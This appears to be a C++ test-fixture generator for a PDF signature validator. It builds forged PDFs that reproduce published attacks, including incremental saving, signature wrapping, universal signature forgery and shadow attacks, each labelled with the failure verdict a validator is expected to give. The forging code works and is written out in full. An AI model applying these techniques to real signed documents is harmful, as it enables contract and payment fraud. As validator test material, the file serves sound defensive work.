// The attack samples: one file per attack class of "1 Trillion Dollar Refund — How to Spoof PDF
// Signatures" (Mladenov et al., CCS 2019: universal signature forgery, incremental saving,
// signature wrapping) and "Shadow Attacks" (Mainka et al., NDSS 2021: hide, replace,
// hide-and-replace), all forged with the sample federation's signer key, plus a covered byte
// changed in place. Every attack keeps the CMS cryptographically intact over the bytes its
// ByteRange names (or has no usable CMS at all), so none is a HASH_FAILURE: what is wrong is the
// PDF around the CMS — what the ByteRange covers, or what changed after the signed revision —
// which EN 319 102-1 5.2.2 (format checking) and EN 319 142-1 judge: TOTAL_FAILED /
// FORMAT_FAILURE. Only the tampered byte breaks the message digest: HASH_FAILURE (5.2.7).
#include <cstdio>

#include "samples/internal/pades_kit.h"

namespace assay::samples {
namespace {

#define ASSAY_TRY(var, expr) \
  auto var = (expr);         \
  if (!var) return std::unexpected(var.error())

const std::vector<std::string> kEvilLines = {"Sample contract (not a real document)", "", "", "",
                                             "The buyer pays the seller the amount below on delivery.",
                                             "Amount: 100000.00 EUR", "Payee: Eve Example, IBAN XA99 9999 9999 9999"};

}  // namespace

engine::Result<void> add_pades_attack_samples(const PadesKit& kit, const PutPdf& put) {
  const auto cades = cades_maker(kit.signer);
  const auto signed_contract = [&](const std::string& title) -> engine::Result<pdf::Document> {
    auto doc = contract(title);
    if (auto s = doc.sign(signature_options(kit, "Signature1"), cades); !s) return std::unexpected(s.error());
    return doc;
  };

  {  // Incremental saving attack: an update after the signature redefines the page content.
    ASSAY_TRY(doc, signed_contract("Incremental saving attack"));
    doc->replace(doc->content_object(0), pdf::stream("", text_page(kEvilLines)));
    doc->end_revision();
    put("attack-incremental-saving.pdf", doc->file().bytes(),
        "ISA: B-B approval signature, then an incremental update replacing the page's content stream (expected: "
        "TOTAL_FAILED / FORMAT_FAILURE)");
  }
  ASSAY_TRY(genuine, signed_contract("Universal signature forgery"));
  const auto& g = genuine->file();
  const std::vector<std::size_t> range = g.last_byte_range();
  const std::string contents_hex = g.bytes().substr(range[1] + 1, range[2] - range[1] - 2);
  {  // Signature wrapping: the second covered range relocated behind a gap that holds a new
     // /ByteRange and a new page content; a full xref appended last makes the gap's objects
     // current. P1 and P2 are the genuine bytes, so the CMS verifies over [0 a b' c].
    const std::string& bytes = g.bytes();
    const std::string p1 = bytes.substr(0, range[1]);
    const std::string contents = bytes.substr(range[1], range[2] - range[1]);
    const std::string p2 = bytes.substr(range[2]);
    std::string w = p1 + contents;
    const std::string evil_content = pdf::stream("", text_page(kEvilLines));
    // The new /ByteRange has its final width once b' is known: fix its width first.
    const auto tail = [&](std::size_t b2) {
      char buffer[64];
      std::snprintf(buffer, sizeof buffer, "\n/ByteRange [0 %010zu %010zu %010zu]\n>>\nendobj\n", range[1], b2, p2.size());
      return std::string(buffer);
    };
    const std::size_t content_at = w.size() + tail(0).size();
    const std::string content_object = std::to_string(genuine->content_object(0)) + " 0 obj\n" + evil_content + "\nendobj\n";
    const std::size_t b2 = content_at + content_object.size();
    w += tail(b2) + content_object + p2;
    std::map<int, std::size_t> offsets;
    for (const auto& [n, offset] : g.offsets()) offsets[n] = offset < range[2] ? offset : offset - range[2] + b2;
    offsets[genuine->content_object(0)] = content_at;
    const std::size_t xref = w.size();
    w += pdf::xref_section(offsets, g.size(), g.root_and_info(), 0, true);
    w += "startxref\n" + std::to_string(xref) + "\n%%EOF\n";
    put("attack-signature-wrapping.pdf", std::move(w),
        "SWA: the signed bytes after /Contents relocated to the end, a new /ByteRange and page content in the gap, a "
        "new xref (expected: TOTAL_FAILED / FORMAT_FAILURE)");
  }
  {  // Universal signature forgery: a signature dictionary that names the signer (a genuine CMS
     // of another document) but gives nothing to verify, or no CMS at all.
    using C = pdf::SignatureDictionary::Contents;
    using B = pdf::SignatureDictionary::ByteRange;
    const std::string genuine_range = "[0 " + std::to_string(range[1]) + " " + std::to_string(range[2]) + " " +
                                      std::to_string(range[3]) + "]";
    struct Variant {
      const char* file;
      C contents;
      B byte_range;
      const char* what;
    };
    for (const auto& v : {Variant{"attack-usf-contents-missing.pdf", C::kMissing, B::kGiven, "no /Contents"},
                          Variant{"attack-usf-contents-null.pdf", C::kNull, B::kGiven, "/Contents null"},
                          Variant{"attack-usf-contents-empty.pdf", C::kEmpty, B::kGiven, "/Contents <>"},
                          Variant{"attack-usf-byterange-missing.pdf", C::kGiven, B::kMissing, "no /ByteRange"},
                          Variant{"attack-usf-byterange-null.pdf", C::kGiven, B::kNull, "/ByteRange null"},
                          Variant{"attack-usf-byterange-zeros.pdf", C::kGiven, B::kZeros, "/ByteRange [0 0 0 0]"}}) {
      auto doc = contract("Universal signature forgery");
      auto options = signature_options(kit, "Signature1");
      options.dictionary.contents = v.contents;
      options.dictionary.byte_range = v.byte_range;
      options.dictionary.given_contents_hex = contents_hex;
      options.dictionary.given_byte_range = genuine_range;
      ASSAY_TRY(s, doc.sign(options, cades));
      put(v.file, doc.file().bytes(),
          std::string("USF: ") + v.what + " (expected: TOTAL_FAILED / FORMAT_FAILURE)");
    }
  }
  {  // Shadow hide: under P=2, text hidden by a white overlay XObject in the signed revision; an
     // update empties the overlay. Changing an XObject is neither form filling nor signing.
    std::string content = text_page({"Sample contract (not a real document)", "", "Shadow attack: hide", "",
                                     "The buyer pays the seller the amount below on delivery."});
    content += "\nBT /F1 12 Tf 72 690 Td (Amount: 100000.00 EUR, payee Eve Example) Tj ET\nq /Overlay Do Q";
    pdf::Document doc({content}, "Shadow attack: hide");
    const std::string overlay_dict = "/Type /XObject /Subtype /Form /BBox [0 0 595 842]";
    const int overlay = doc.add_xobject(0, "Overlay", pdf::stream(overlay_dict, "1 g 60 680 480 30 re f"));
    ASSAY_TRY(s, doc.sign(signature_options(kit, "Certification", 2), cades));
    doc.replace(overlay, pdf::stream(overlay_dict, ""));
    doc.end_revision();
    put("attack-shadow-hide.pdf", doc.file().bytes(),
        "shadow hide: P=2, an overlay XObject emptied after signing reveals hidden text (expected: TOTAL_FAILED / "
        "FORMAT_FAILURE)");
  }
  {  // Shadow replace: under P=2 (form filling permitted), the amount is a borderless read-only
     // field over the page; the update "fills" it. A read-only field (ISO 32000-1 12.7.3.1, Ff
     // bit 1) cannot be filled in, so this is no permitted form fill.
    pdf::Document doc({text_page({"Sample contract (not a real document)", "", "Shadow attack: replace", "",
                                  "The buyer pays the seller the amount below on delivery.", "Amount:"})},
                      "Shadow attack: replace");
    const int amount = doc.add_text_field(0, "Amount", "100.00 EUR", {130, 684, 400, 700}, 1);
    ASSAY_TRY(s, doc.sign(signature_options(kit, "Certification", 2), cades));
    doc.set_field_value(amount, "100000.00 EUR");
    doc.end_revision();
    put("attack-shadow-replace.pdf", doc.file().bytes(),
        "shadow replace: P=2, a read-only field showing the amount refilled after signing (expected: TOTAL_FAILED / "
        "FORMAT_FAILURE)");
  }
  {  // Shadow hide-and-replace: the signed revision carries, before its objects, a second
     // definition of the page content object that no xref names; the update is an xref section
     // and trailer only, re-pointing that object number at the hidden definition.
    auto doc = contract("Shadow attack: hide-and-replace");
    const int content = doc.content_object(0);
    std::string& bytes = doc.file().mutable_bytes();
    const std::size_t hidden_at = bytes.size();
    bytes += std::to_string(content) + " 0 obj\n" + pdf::stream("", text_page(kEvilLines)) + "\nendobj\n";
    ASSAY_TRY(s, doc.sign(signature_options(kit, "Certification", 2), cades));
    doc.file().put_offset(content, hidden_at);
    doc.end_revision();
    put("attack-shadow-hide-and-replace.pdf", doc.file().bytes(),
        "shadow hide-and-replace: P=2, an xref-only update re-points the page content to a definition hidden in the "
        "signed bytes (expected: TOTAL_FAILED / FORMAT_FAILURE)");
  }
  {  // One covered byte changed in place (the amount's first digit): same structure, wrong digest.
    std::string bytes = g.bytes();
    const std::size_t at = bytes.find("Amount: 100.00 EUR");
    if (at == std::string::npos || at >= range[1]) return engine::fail(engine::Code::kInternal, "PAdES tamper target missing");
    bytes[at + 8] = '9';
    put("tampered-covered-byte.pdf", std::move(bytes),
        "B-B approval signature with one covered byte changed (Amount 100.00 -> 900.00) (expected: TOTAL_FAILED / "
        "HASH_FAILURE)");
  }
  return {};
}
#undef ASSAY_TRY

}  // namespace assay::samples
